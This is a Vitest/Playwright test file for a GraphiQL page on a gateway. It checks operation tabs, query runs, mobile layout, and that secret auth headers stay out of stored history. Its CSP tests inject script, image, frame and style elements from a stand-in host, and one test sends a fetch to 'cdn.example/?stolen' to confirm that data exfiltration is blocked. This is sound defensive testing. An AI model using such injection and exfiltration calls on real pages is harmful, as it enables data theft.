import { readdirSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it, vi } from 'vitest';
import { START } from '../../src/server/edge/graphiql-start.ts';
import { BLOCKED, useGraphiql } from './_support/graphiql.ts';

const OPERATIONS = readdirSync(new URL('../../schema/operations/', import.meta.url)).map((file) =>
  file.replace('.graphql', ''),
);
const PICTURE = fileURLToPath(new URL('../fixtures/graphiql.png', import.meta.url));
const SECRET = 'secret-of-a-caller-0123456789';
const OWN = '{ upstreams { name } }';

// The page is nine megabytes of script, and a busy machine takes seconds to read it.
vi.setConfig({ testTimeout: 60_000 });

const graphiql = useGraphiql();
const { open, openAnew, kept, brokenRules, tab, tabNames, selected, text, history, clickOnce, run } = graphiql;

// These and the next share the page that was opened first.
describe('a first visit to GraphiQL', () => {
  it('shows a tab for each stored operation, the vault overview first', async () => {
    const asFiles = (await tabNames()).map((name) => name.replaceAll(/\B[A-Z]/g, '-$&').toLowerCase());
    expect(asFiles[0]).toBe('vault-overview');
    expect(asFiles.sort()).toEqual(OPERATIONS.sort());
  });

  it('shows the vaults of the sandbox at the press of a button, and asks nothing of any other origin', async () => {
    const { page, browser } = graphiql;
    await run();
    const result = page.locator('.result-window');
    await result.getByText('"vault-orders-prod"').waitFor();
    if (process.env.SCREENSHOT === '1') await page.screenshot({ path: PICTURE, animations: 'disabled' });
    expect(await result.textContent()).toContain('orders-db-01');
    expect(browser.foreignRequests).toEqual([]);
  });

  it('works in workers of its own, and within the rules of its page', async () => {
    expect(graphiql.page.workers().length).toBeGreaterThan(0);
    expect(await brokenRules()).toEqual([]);
  });

  it('selects each tab by one click, and each does as delivered what it is there for', async () => {
    const names = await tabNames();
    expect(await selected()).toEqual(names.slice(0, 1));
    for (const name of [...names.slice(1), ...names.slice(0, 1)]) {
      await clickOnce(name);
      await expect.poll(selected).toEqual([name]);
      await expect.poll(() => text('query-editor')).toContain(name);
      const { body } = await run();
      expect(body).not.toHaveProperty('errors');
      const [field] = Object.values(body.data ?? {});
      expect(field).not.toBeNull();
      if (field.__typename) expect(field).toMatchObject({ __typename: `${name}Payload` });
    }
    await clickOnce('VaultDetail');
    await graphiql.page.waitForURL(/VaultDetail/);
    await graphiql.page.reload();
    await expect.poll(selected).toEqual(['VaultDetail']);
    expect(await tabNames()).toEqual(names);
    await expect.poll(() => text('editor-tool')).toContain('vault:sg:');
  });
});

describe('the page of GraphiQL', () => {
  it.each([
    ['a script from outside', 'script', { src: 'https://cdn.example/a.js' }, 'script-src-elem'],
    ['a script written into it', 'script', { textContent: 'document.title = "taken"' }, 'script-src-elem'],
    ['a picture from outside', 'img', { src: 'https://cdn.example/a.png' }, 'img-src'],
    ['a frame from outside', 'iframe', { src: 'https://cdn.example/' }, 'frame-src'],
    ['a style from outside', 'link', { rel: 'stylesheet', href: 'https://cdn.example/a.css' }, 'style-src-elem'],
  ])('does not let in %s', async (_name, kind, properties, rule) => {
    const { page, browser } = graphiql;
    await page.evaluate(
      `void document.head.append(Object.assign(document.createElement("${kind}"), ${JSON.stringify(properties)}))`,
    );
    await expect.poll(async () => (await brokenRules()).at(-1)).toBe(rule);
    expect([await page.title(), browser.foreignRequests]).toEqual(['checkpoint-gateway', []]);
  });

  it('sends nothing to any other origin', async () => {
    const { page, browser } = graphiql;
    const sent = page.evaluate(
      'fetch("https://cdn.example/?stolen", { mode: "no-cors" }).then(() => "sent", () => "kept")',
    );
    expect([await sent, browser.foreignRequests]).toEqual(['kept', []]);
  });
});

describe('a query in the address', () => {
  it('has a tab of its own, on a first visit and later, and once', async () => {
    for (const visit of [openAnew, open]) {
      await visit(`?query=${encodeURIComponent(OWN)}`);
      await expect.poll(() => text('query-editor')).toMatch(/upstreams\s{\sname\s}/);
      const names = await tabNames();
      expect([names.length, names.at(-1), await selected()]).toEqual([
        OPERATIONS.length + 1,
        '<untitled>',
        ['<untitled>'],
      ]);
    }
    expect((await run()).body).toMatchObject({
      data: { upstreams: [{ name: 'sg' }, { name: 'eu' }, { name: 'lab' }] },
    });
    await clickOnce('VaultOverview');
    await expect.poll(() => text('query-editor')).toContain('VaultOverview');
    expect(await brokenRules()).toEqual([]);
  });
});

describe('what is sent by GraphiQL', () => {
  it('is in its history the next time, without its headers, which are kept nowhere', async () => {
    const { page } = graphiql;
    await openAnew();
    await page.getByRole('button', { name: 'Headers' }).click();
    await page.locator('.graphiql-editor-tool .monaco-editor').last().click();
    await page.keyboard.insertText(`{ "x-auth-token": "${SECRET}" }`);
    await expect.poll(async () => (await run()).headers['x-auth-token']).toBe(SECRET);
    await expect.poll(kept).toContain('"graphiql:queries":"{\\"queries\\":[{');
    expect(await kept()).not.toContain(SECRET);
    await page.reload();
    expect((await run()).headers).not.toHaveProperty('x-auth-token');
    expect((await history())[0]).toBe('VaultOverview');
    expect(await kept()).not.toContain(SECRET);
  });
});

describe('GraphiQL in a browser', () => {
  // Each that GraphiQL reads, as JSON or as a text.
  const NO_JSON = ['tabState', 'queries', 'favorites', 'theme', 'visiblePlugin', 'editorFlex', 'docExplorerFlex'];
  // A history that is open is drawn with the page.
  const OF_ANOTHER_SHAPE = {
    ...{ tabState: '{"tabs":[{}]}', favorites: 'null', theme: '{}', visiblePlugin: 'History' },
    queries: '{"queries":[{"query":"{ a }","label":{"x":1}}]}',
  };
  const itemsOf = (values: object) =>
    Object.fromEntries(Object.entries(values).map(([key, value]) => [`graphiql:${key}`, value]));

  it.each([
    ['that blocks its storage', BLOCKED, {}],
    ['that has kept what is no JSON', '', itemsOf(Object.fromEntries(NO_JSON.map((name) => [name, '{'])))],
    ['that has kept what another page has written', '', itemsOf(OF_ANOTHER_SHAPE)],
  ])('%s is as on a first visit', async (_name, hash, items) => {
    await openAnew(hash, items);
    expect([(await tabNames()).length, await selected()]).toEqual([OPERATIONS.length, ['VaultOverview']]);
    expect((await run()).body).not.toHaveProperty('errors');
    expect(await history()).toEqual(['VaultOverview']);
  });

  const MINE = { query: '{ a }', variables: '{}', headers: '{}', operationName: 'Mine', label: 'mine', favorite: true };
  const SPARSE = { query: '{ a }', variables: null, headers: null, operationName: null, label: null };
  const odd = Object.keys(MINE).map((member) => ({ ...MINE, [member]: { of: 'another type' } }));
  it.each(['queries', 'favorites'])(
    'keeps the %s of an earlier visit of which GraphiQL can draw each',
    async (name) => {
      /** What is left of these entries when the page starts. GraphiQL is not drawn: that takes a second. */
      const left = async (entries: readonly unknown[]) => {
        const text = JSON.stringify(JSON.stringify({ [name]: entries }));
        await graphiql.page.evaluate(
          `localStorage['graphiql:${name}'] = ${text}; YogaGraphiQL = { renderYogaGraphiQL() {} }; ${START}`,
        );
        return JSON.parse(await graphiql.page.evaluate(`localStorage['graphiql:${name}']`))[name];
      };
      const usable = [MINE, SPARSE, { query: '' }];
      expect(await left(usable)).toEqual(usable);
      for (const entry of [...odd, {}, null]) expect(await left([MINE, entry])).toEqual([]);
    },
  );
});

describe('on a telephone, 390 pixels wide,', () => {
  it('GraphiQL has no more tabs when it is loaded again, each can be chosen, and there is room for an answer', async () => {
    const { page } = graphiql;
    await openAnew();
    await page.setViewportSize({ width: 390, height: 844 });
    await page.reload();
    await expect.poll(tabNames).toHaveLength(OPERATIONS.length);
    expect(await selected()).toEqual(['VaultOverview']);
    for (const name of await tabNames()) {
      await tab(name).scrollIntoViewIfNeeded();
      await clickOnce(name);
      await expect.poll(selected).toEqual([name]);
    }
    await tab('VaultOverview').scrollIntoViewIfNeeded();
    await clickOnce('VaultOverview');
    await run();
    await page.locator('.result-window').getByText('"vault-orders-prod"').waitFor();
    for (const part of ['.graphiql-query-editor .monaco-editor', '.result-window']) {
      const { x, width, y, height } = (await page.locator(part).boundingBox()) ?? { x: 0, width: 0, y: 0, height: 0 };
      expect(width, part).toBeGreaterThan(240);
      expect(height, part).toBeGreaterThan(150);
      expect([x >= 0, x + width <= 390, y + height <= 844]).toEqual([true, true, true]);
    }
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(390);
  });
});
